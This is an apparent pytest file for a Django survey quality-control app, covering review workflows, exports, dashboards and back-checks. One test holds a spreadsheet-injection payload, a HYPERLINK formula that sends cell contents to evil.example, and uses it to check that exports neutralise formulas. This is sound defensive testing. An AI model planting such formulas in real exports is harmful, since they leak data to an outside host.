"""The workflow pages: two-step decisions, returns, bulk approval, recordings, settings,
dashboard, export and back-check pages."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Role
from fieldwork.models import Call, Case, Interview
from qc import rules
from qc.backchecks import BACKCHECK_RULE
from qc.models import BackCheck, Flag, QCSettings, Review
from qc.presenters.labels import RULE_LABELS, rule_label
from qc.rules import RuleConfig
from qc.services.backchecks import record_backcheck, select_backchecks
from qc.services.checks import check_completed_interview, check_interviews
from qc.services.reviews import approve_interview, reject_interview
from tests.factories import PASSWORD, make_user
from tests.qc.conftest import straight_answers, varied_answers
from tests.visible_text import read_page

S = Review.State
LIST = reverse("qc:review_list")
NO_DUPLICATES = RuleConfig(duplicate_min_items=10**6)


def login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def detail(interview) -> str:
    return reverse("qc:review_detail", args=[interview.pk])


def test_supervisor_sees_proposals_and_the_lead_the_final_decision(
    client, flagged, supervisor, analyst
):
    login(client, supervisor)
    page = client.get(detail(flagged))
    assert page.context["actions"] == {
        "approve": True,
        "reject": True,
        "return": True,
        "rerelease": False,
        "final": False,
    }
    client.post(reverse("qc:review_approve", args=[flagged.pk]), {"approve-reason": "无误"})
    # the proposer has nothing left to do here
    actions = client.get(detail(flagged)).context["actions"]
    assert not any(actions.values())
    login(client, analyst)
    page = client.get(detail(flagged))
    assert page.context["actions"]["final"] and page.context["actions"]["approve"]
    response = client.post(reverse("qc:review_approve", args=[flagged.pk]), {})
    assert response.status_code == 302
    review = Review.objects.get(interview=flagged)
    assert (review.state, review.decided_by) == (S.APPROVED, analyst)


def test_supervisor_pressing_approve_twice_gets_a_message_not_a_decision(
    client, flagged, supervisor
):
    login(client, supervisor)
    url = reverse("qc:review_approve", args=[flagged.pk])
    client.post(url, {})
    response = client.post(url, {}, follow=True)
    assert Review.objects.get(interview=flagged).state == S.PROPOSED_APPROVE
    assert any(m.level_tag == "error" for m in response.context["messages"])


def test_return_via_post_reopens_the_case(client, flagged, supervisor, other_interviewer):
    login(client, supervisor)
    response = client.post(
        reverse("qc:review_return", args=[flagged.pk]),
        {"return-reason": "疑似编造，重访", "return-interviewer": other_interviewer.pk},
    )
    assert response.status_code == 302
    case = Case.objects.get(interview=flagged)
    assert (case.status, case.interviewer) == (Case.Status.PENDING, other_interviewer)
    assert Review.objects.get(interview=flagged).state == S.RETURNED


def test_return_without_reason_shows_the_error(client, flagged, supervisor):
    login(client, supervisor)
    response = client.post(reverse("qc:review_return", args=[flagged.pk]), {"return-reason": ""})
    assert response.status_code == 200 and response.context["return_form"].errors
    assert Interview.objects.get(pk=flagged.pk).status == Interview.Status.COMPLETED


def test_rerelease_via_post_is_for_analysts(
    client, flagged, supervisor, analyst, other_interviewer
):
    review = Review.objects.get(interview=flagged)
    reject_interview(review=review, user=supervisor, reason="代答")
    reject_interview(review=review, user=analyst, reason="确认")
    url = reverse("qc:review_rerelease", args=[flagged.pk])
    data = {"rerelease-reason": "重访", "rerelease-interviewer": other_interviewer.pk}
    login(client, supervisor)
    assert client.post(url, data).status_code == 403
    login(client, analyst)
    assert client.get(detail(flagged)).context["actions"]["rerelease"]
    assert client.post(url, data).status_code == 302
    assert Review.objects.get(interview=flagged).state == S.RETURNED


def test_detail_embeds_the_call_recording(client, flagged, supervisor):
    call = Call.objects.create(
        case=flagged.case,
        interviewer=flagged.interviewer,
        recording_url="https://api.twilio.com/RE1",
        recording_seconds=421,
    )
    login(client, supervisor)
    text = client.get(detail(flagged)).text
    src = reverse("fieldwork:telephony:recording", args=[call.pk])
    assert f'<audio controls preload="none" src="{src}">' in text
    assert "07:01" in text


def test_detail_without_recording_has_no_player(client, flagged, supervisor):
    login(client, supervisor)
    assert "<audio" not in client.get(detail(flagged)).text


def _clean_and_flagged(world, interviewer, n_clean=3):
    clean = [world.interview(interviewer) for _ in range(n_clean)]
    flagged = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    check_interviews(interviews=Interview.objects.all(), config=NO_DUPLICATES)
    return clean, flagged


def test_bulk_approve_selected(client, world, interviewer, supervisor):
    clean, flagged = _clean_and_flagged(world, interviewer)
    ids = [Review.objects.get(interview=i).pk for i in (clean[0], flagged)]
    login(client, supervisor)
    response = client.post(reverse("qc:review_bulk_approve"), {"reviews": ids, "scope": "selected"})
    assert response.status_code == 302 and response.url == LIST
    states = dict(Review.objects.values_list("interview_id", "state"))
    assert states[clean[0].pk] == S.PROPOSED_APPROVE
    assert states[flagged.pk] == S.FLAGGED  # never in bulk
    assert states[clean[1].pk] == S.CLEAN


def test_bulk_approve_all_in_the_filter(client, world, interviewer, other_interviewer, supervisor):
    clean, _flagged = _clean_and_flagged(world, interviewer)
    other = world.interview(other_interviewer)
    check_completed_interview(other, config=NO_DUPLICATES)
    login(client, supervisor)
    url = reverse("qc:review_bulk_approve") + f"?interviewer={interviewer.pk}"
    response = client.post(url, {"scope": "all"})
    assert response.url == f"{LIST}?interviewer={interviewer.pk}"
    proposed = set(
        Review.objects.filter(state=S.PROPOSED_APPROVE).values_list("interview_id", flat=True)
    )
    assert proposed == {i.pk for i in clean}


def test_list_filters_by_rule_severity_and_dates(client, world, interviewer, supervisor):
    clean, flagged = _clean_and_flagged(world, interviewer, n_clean=1)
    login(client, supervisor)

    def ids(**params):
        return {row["interview_id"] for row in client.get(LIST, params).context["rows"]}

    assert ids(rule="straightlining") == {flagged.pk}
    assert ids(severity="high") == {flagged.pk}  # rushed is high
    assert ids(rule="off_hours") == set()
    day = flagged.completed_at.date()
    assert flagged.pk in ids(date_from=day.isoformat(), date_to=day.isoformat())
    assert ids(date_from="2099-01-01") == set()


def test_settings_page_saves_and_the_checks_use_it(client, world, interviewer, supervisor):
    login(client, supervisor)
    url = reverse("qc:settings", args=[world.wave.pk])
    form = client.get(url).context["form"]
    data = {name: value for name, value in form.initial.items()}
    data |= {"floor_seconds": 30, "seconds_per_item": 2, "backcheck_share": 0.4}
    response = client.post(url, data)
    assert response.status_code == 302
    saved = QCSettings.objects.get(wave=world.wave)
    assert saved.backcheck_share == 0.4
    assert saved.rules == {"floor_seconds": 30.0, "seconds_per_item": 2.0}
    interview = world.interview(interviewer, duration=45)
    assert check_completed_interview(interview).state == S.CLEAN


def test_settings_page_shows_bad_values_and_saves_nothing(client, world, supervisor):
    login(client, supervisor)
    url = reverse("qc:settings", args=[world.wave.pk])
    data = dict(client.get(url).context["form"].initial)
    data |= {"working_hours_start": "25:99"}
    response = client.post(url, data)
    assert response.status_code == 200
    # the problem at the setting's own field, in words (never the threshold's code name)
    assert response.context["form"].errors["working_hours_start"] == ["请填写时间，如 08:00。"]
    assert "working_hours_start" not in _visible(response)
    assert not QCSettings.objects.exists()


def _visible(response) -> str:
    return " ".join(read_page(response.content.decode(), language="zh-hans").pieces)


def test_settings_page_names_every_threshold_in_words(client, world, supervisor):
    login(client, supervisor)
    response = client.get(reverse("qc:settings", args=[world.wave.pk]))
    form = response.context["form"]
    shown = _visible(response)
    for name in form.RULE_FIELDS:
        assert form.fields[name].label != name and name not in shown, name
    assert str(form.fields["seconds_per_item"].label) == "每题最少用时（秒）"
    # the overall item is chosen among the questions by label, the time zone by its name
    choices = dict(form.fields["overall_item"].choices)
    assert choices["sat_1"] == "满意度第1题"
    assert form.fields["timezone"].help_text == "北京时间（UTC+8）"


def test_dashboard_counts_and_charts(client, world, interviewer, other_interviewer, supervisor):
    world.interview(interviewer)
    rushed = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    elsewhere = world.interview(
        other_interviewer, answers=straight_answers("2"), street=world.other_street
    )
    check_interviews(interviews=Interview.objects.all(), config=NO_DUPLICATES)
    login(client, supervisor)
    response = client.get(reverse("qc:dashboard", args=[world.wave.pk]))
    data = response.context["data"]
    # rushed: rushed + straightlining; elsewhere: straightlining (duration 420 s)
    assert data["n_flags"] == 3 and data["n_flagged"] == 2 and data["n_reviews"] == 3
    assert data["by_rule"] == [("straightlining", 2), ("rushed", 1)]
    assert dict(data["by_street"]) == {"洞庭街道": 2, "岳阳楼街道": 1}
    assert dict(data["by_interviewer"]) == {str(interviewer): 2, str(other_interviewer): 1}
    assert sum(flags for _day, _n, flags in data["days"]) == 3
    assert sum(n for _day, n, _flags in data["days"]) == 3
    assert response.text.count('<svg class="chart"') == 4
    assert rushed.pk and elsewhere.pk


def test_export_csv_and_xlsx_hold_every_flag_and_decision(
    client, world, interviewer, supervisor, analyst
):
    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    review = check_completed_interview(interview)
    approve_interview(review=review, user=supervisor, reason="听过录音")
    approve_interview(review=review, user=analyst)
    login(client, supervisor)
    url = reverse("qc:export", args=[world.wave.pk])

    flags_csv = client.get(url, {"table": "flags"})
    assert "no-store" in flags_csv["Cache-Control"]  # interviewers' names and decisions
    assert flags_csv["Content-Disposition"] == (
        f'attachment; filename="qc-wave-{world.wave.pk}-flags.csv"'
    )
    rows = list(csv.reader(io.StringIO(flags_csv.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "访问", "访员", "区县", "街道", "完成时间", "审核状态", "规则", "严重程度", "原因",
        "标记时间",
    ]  # fmt: skip
    interview.refresh_from_db()
    completed = timezone.localtime(interview.completed_at).strftime("%Y-%m-%d %H:%M:%S")
    by_rule = {r[6]: r for r in rows[1:]}
    assert sorted(by_rule) == sorted(["答案雷同（直线作答）", "用时过短"])
    rushed = by_rule["用时过短"]
    assert rushed[:6] == [
        str(interview.pk), str(interviewer), world.district.name, world.street.name, completed,
        "已通过",
    ]  # fmt: skip
    flag = Flag.objects.get(rule="rushed")
    assert rushed[7:] == [
        "高",
        flag.reason,
        timezone.localtime(flag.created_at).strftime("%Y-%m-%d %H:%M:%S"),
    ]
    assert "访问用时 45 秒" in flag.reason and "45 s" in flag.reason_en

    events_csv = client.get(url, {"table": "events"})
    rows = list(csv.reader(io.StringIO(events_csv.content.decode("utf-8-sig"))))
    assert rows[0] == ["访问", "时间", "原状态", "新状态", "操作人", "原因", "涉及规则"]
    assert [r[2:5] for r in rows[1:]] == [
        ["", "存疑", "自动检查"],
        ["存疑", "拟通过", str(supervisor)],
        ["拟通过", "已通过", str(analyst)],
    ]
    assert {r[0] for r in rows[1:]} == {str(interview.pk)}
    assert "访问用时 45 秒" in rows[1][5] and rows[2][5] == "听过录音"
    assert rows[1][6] == "用时过短 (高); 答案雷同（直线作答） (中)"  # as the page names them

    book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    assert book.sheetnames == ["质控标记", "审核记录"]
    assert book["质控标记"].max_row == 3 and book["审核记录"].max_row == 4
    cells = {
        str(cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
    }
    codes = {"rushed", "straightlining", "high", "medium", "flagged", "approved"}
    codes |= {"proposed_approve"}
    assert not cells & codes  # every rule, severity and state by its name


@pytest.mark.usefixtures("english")
def test_the_export_speaks_the_readers_language(client, world, interviewer, supervisor):
    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    check_completed_interview(interview)
    login(client, supervisor)
    url = reverse("qc:export", args=[world.wave.pk])

    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Interview", "Interviewer", "District"]
    rushed = next(r for r in rows[1:] if r[6] == "Too short")
    assert rushed[5:8] == ["Flagged", "Too short", "High"]
    assert "45 s" in rushed[8] and "秒" not in rushed[8]
    events = client.get(url, {"table": "events"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(events)))
    assert rows[0] == ["Interview", "When", "Before", "After", "By", "Reason", "Rules"]
    assert rows[1][3:5] == ["Flagged", "Automatic checks"]
    book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    assert book.sheetnames == ["Flags", "Review decisions"]


@pytest.mark.parametrize("page", ["qc:export", "qc:dashboard", "qc:review_list"])
def test_qc_lists_read_no_answers_paradata_or_snapshots(
    page, client, world, interviewer, supervisor
):
    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    reject_interview(review=check_completed_interview(interview), user=supervisor, reason="代答")
    login(client, supervisor)
    url = reverse(page) if page == "qc:review_list" else reverse(page, args=[world.wave.pk])
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, {"format": "xlsx", "wave": world.wave.pk})
    assert response.status_code == 200
    sql = " ".join(query["sql"] for query in queries.captured_queries)
    assert '"fieldwork_interview"."completed_at"' in sql  # the interviews were read
    for column in ("answers", "answers_text", "paradata", "snapshot", "details"):
        assert f'."{column}"' not in sql  # none is shown; each is JSON parsed per row


def test_backchecks_page_draws_with_a_seed(client, world, interviewer, supervisor):
    checker = make_user("checker", Role.INTERVIEWER)
    for _ in range(4):
        world.interview(interviewer)
    check_interviews(interviews=Interview.objects.all(), config=NO_DUPLICATES)
    login(client, supervisor)
    url = reverse("qc:backchecks", args=[world.wave.pk])
    response = client.post(url, {"checkers": [checker.pk], "seed": 7})
    assert response.status_code == 302
    # new interviewer (no earlier wave): half of 4
    assert BackCheck.objects.filter(assigned_to=checker, draw__seed=7).count() == 2
    page = client.get(url)
    assert len(page.context["rows"]) == 2
    assert page.context["discrepancies"][0]["selected"] == 2


def test_backchecks_page_shows_an_impossible_draw(client, world, interviewer, supervisor):
    world.interview(interviewer)
    check_interviews(interviews=Interview.objects.all(), config=NO_DUPLICATES)
    login(client, supervisor)
    url = reverse("qc:backchecks", args=[world.wave.pk])
    response = client.post(url, {"checkers": [interviewer.pk], "seed": 1})
    assert response.status_code == 200 and response.context["form"].non_field_errors()
    assert not BackCheck.objects.exists()


@pytest.fixture
def backcheck(world, interviewer, supervisor):
    checker = make_user("checker", Role.INTERVIEWER)
    interview = world.interview(interviewer, phone="13912345678")
    check_completed_interview(interview)
    select_backchecks(wave=world.wave, user=supervisor, checkers=[checker], seed=1)
    return BackCheck.objects.get(interview=interview)


def test_interviewer_sees_own_backchecks_with_masked_phone(client, backcheck):
    login(client, backcheck.assigned_to)
    text = client.get(reverse("qc:my_backchecks")).text
    assert f"#{backcheck.interview_id}" in text
    assert "139****5678" in text and "13912345678" not in text


def test_backcheck_form_records_answers(client, backcheck):
    login(client, backcheck.assigned_to)
    url = reverse("qc:backcheck_form", args=[backcheck.interview_id])
    page = client.get(url)
    assert list(page.context["form"].fields) == ["sat_1", "sat_2", "sat_3"]
    assert "满意度第1题" in page.text and "139****5678" in page.text
    original = varied_answers()
    response = client.post(url, {"sat_1": original["sat_1"], "sat_2": original["sat_2"]})
    assert response.status_code == 302
    backcheck.refresh_from_db()
    assert (backcheck.state, backcheck.rate) == ("done", 0.0)


def test_backcheck_form_refuses_choices_not_in_the_list(client, backcheck):
    login(client, backcheck.assigned_to)
    url = reverse("qc:backcheck_form", args=[backcheck.interview_id])
    response = client.post(url, {"sat_1": "7"})
    assert response.status_code == 200 and response.context["form"].errors["sat_1"]
    backcheck.refresh_from_db()
    assert backcheck.state == "assigned"


def test_backcheck_of_someone_else_is_404(client, backcheck, interviewer):
    login(client, interviewer)  # the interview's own interviewer
    url = reverse("qc:backcheck_form", args=[backcheck.interview_id])
    assert client.get(url).status_code == 404
    assert client.post(url, {"sat_1": "1"}).status_code == 404


def test_dashboard_query_count_does_not_grow_with_flags(
    client, world, interviewer, supervisor, django_assert_max_num_queries
):
    for i in range(10):
        world.interview(interviewer, answers=straight_answers("4"), duration=45 if i % 2 else 400)
    check_interviews(interviews=Interview.objects.all(), config=NO_DUPLICATES)
    login(client, supervisor)
    # session, user, their second factor, wave, flags, reviews, back-checks, wave list, the
    # session's new idle expiry (an update between savepoints)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("qc:dashboard", args=[world.wave.pk]))
    assert response.context["data"]["n_flags"] == 15


def test_backcheck_on_an_already_rejected_interview_only_flags_it(
    world, interviewer, supervisor, analyst
):
    checker = make_user("checker", Role.INTERVIEWER)
    interview = world.interview(interviewer)
    review = check_completed_interview(interview)
    select_backchecks(wave=world.wave, user=supervisor, checkers=[checker], seed=1)
    reject_interview(review=review, user=supervisor, reason="代答")
    reject_interview(review=review, user=analyst, reason="确认")
    done = record_backcheck(
        backcheck=BackCheck.objects.get(interview=interview),
        user=checker,
        answers={"sat_1": "9", "sat_2": "9", "sat_3": "9"},
    )
    assert done.outcome == BackCheck.Outcome.REJECTED
    assert Review.objects.get(pk=review.pk).events.count() == 3  # no new move
    assert Flag.objects.filter(interview=interview, rule="backcheck_discrepancy").exists()


def test_detail_offers_a_reversal_only_to_a_lead_not_yet_involved(client, flagged, analyst):
    lead = make_user("lead", Role.ANALYST)
    third = make_user("lead3", Role.ANALYST)
    review = Review.objects.get(interview=flagged)
    approve_interview(review=review, user=analyst)
    reject_interview(review=review, user=lead, reason="代答")
    for user in (analyst, lead):  # the proposer and the decider
        actions = login(client, user).get(detail(flagged)).context["actions"]
        assert (actions["approve"], actions["final"], actions["rerelease"]) == (False, False, True)
        response = client.post(reverse("qc:review_approve", args=[flagged.pk]), {})
        assert response.status_code == 302
        assert Review.objects.get(pk=review.pk).state == S.REJECTED
    actions = login(client, third).get(detail(flagged)).context["actions"]
    assert actions["approve"] and actions["final"]


def test_export_quotes_staff_texts_that_look_like_formulas(
    client, world, interviewer, supervisor, analyst
):
    interviewer.first_name = "@SUM(A1:A9)"
    interviewer.save(update_fields=["first_name"])
    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    review = check_completed_interview(interview)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    reject_interview(review=review, user=supervisor, reason=formula)
    reject_interview(review=review, user=analyst, reason="-1+1")
    login(client, supervisor)
    url = reverse("qc:export", args=[world.wave.pk])

    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert {r[1] for r in rows[1:]} == {"'@SUM(A1:A9)"}
    events = client.get(url, {"table": "events"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(events)))
    assert [r[5] for r in rows[2:]] == ["'" + formula, "'-1+1"]

    book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    flag_sheet, event_sheet = book.worksheets
    reasons = [row[5] for row in event_sheet.iter_rows(min_row=3, values_only=True)]
    assert reasons == ["'" + formula, "'-1+1"]
    cells = [row[1] for row in flag_sheet.iter_rows(min_row=2)]
    assert cells and all(c.value == "'@SUM(A1:A9)" and c.data_type == "s" for c in cells)


def test_every_rule_has_a_readable_name():
    assert list(RULE_LABELS) == [*rules.RULES, BACKCHECK_RULE]
    labels = [str(label) for label in RULE_LABELS.values()]
    assert len(set(labels)) == len(labels)
    assert not set(labels) & set(RULE_LABELS)  # no label is a bare code
    assert rule_label("not_a_rule") == "not_a_rule"


@pytest.mark.usefixtures("english")
def test_pages_and_export_name_rules_not_codes(client, world, interviewer, supervisor):
    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
    review = check_completed_interview(interview)
    reject_interview(review=review, user=supervisor, reason="代答")
    login(client, supervisor)

    dashboard = client.get(reverse("qc:dashboard", args=[world.wave.pk]))
    chart = str(dashboard.context["data"]["charts"]["rule"])
    assert ">Same answer throughout<" in chart and ">Too short<" in chart
    assert "straightlining" not in chart

    page = client.get(detail(interview))
    assert page.context["history"][-1]["rules"] == [
        "Too short (High)",
        "Same answer throughout (Medium)",
    ]
    assert [f["rule_label"] for f in page.context["flags"]] == [
        "Too short",
        "Same answer throughout",
    ]
    assert '<option value="straightlining">Same answer throughout</option>' in (
        client.get(LIST).text
    )
    row = client.get(LIST).context["rows"][0]
    assert [f["rule_label"] for f in row["flags"]] == ["Too short", "Same answer throughout"]

    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("qc:export", args=[world.wave.pk])).content.decode("utf-8-sig")
            )
        )
    )
    rule = rows[0].index("Rule")
    assert sorted(r[rule] for r in rows[1:]) == ["Same answer throughout", "Too short"]


def test_the_banner_says_proposed_then_decided(client, flagged, supervisor, analyst):
    login(client, supervisor)
    proposed = client.post(
        reverse("qc:review_approve", args=[flagged.pk]), {"approve-reason": "无误"}, follow=True
    )
    banner = [str(m) for m in proposed.context["messages"]]
    assert banner == [f"已提议通过访问 #{flagged.pk}，由质控负责人作最终决定。"]
    login(client, analyst)
    decided = client.post(reverse("qc:review_approve", args=[flagged.pk]), {}, follow=True)
    assert [str(m) for m in decided.context["messages"]] == [
        f"访问 #{flagged.pk} 已通过：最终决定。"
    ]
